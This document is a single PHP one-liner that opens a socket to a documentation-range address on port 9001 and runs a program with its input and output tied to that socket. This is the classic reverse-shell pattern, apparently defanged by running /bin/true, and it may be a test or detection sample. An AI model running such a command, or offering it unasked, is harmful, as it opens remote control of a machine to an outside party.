php -r '$s=fsockopen("203.0.113.5",9001);exec("/bin/true <&3 >&3 2>&3");'
